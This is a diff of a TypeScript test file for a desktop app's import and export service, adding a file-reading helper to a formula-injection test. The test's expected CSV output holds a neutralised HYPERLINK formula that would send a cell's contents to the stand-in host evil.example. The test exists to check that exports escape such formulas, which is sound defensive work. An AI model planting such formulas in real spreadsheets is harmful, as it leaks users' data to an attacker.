@@ -12,6 +12,7 @@ import { resolveCountryName } from '../../electron/api/schemas/country-resolver'
 import { parseDate } from '../../electron/services/import/dates';
 import { importFile, sha256, type ImportOptions } from '../../electron/services/import/service';
 import { kyrgyzHandover, testApp, type TestApp } from '../support/context';
+import { heldBytes } from '../support/files';
 
 const FIXTURES = join(import.meta.dirname, '../fixtures/import');
 let app: TestApp;
@@ -474,7 +475,7 @@ describe('formula injection', () => {
     expect(h.notes).toBe(evil);
     for (const format of ['csv', 'xlsx'] as const) {
       const file = await app.must('io:export', { format });
-      const bytes = Buffer.from(file.base64, 'base64');
+      const bytes = heldBytes(app.ctx, file);
       if (format === 'csv') {
         const text = bytes.toString('utf8');
         expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
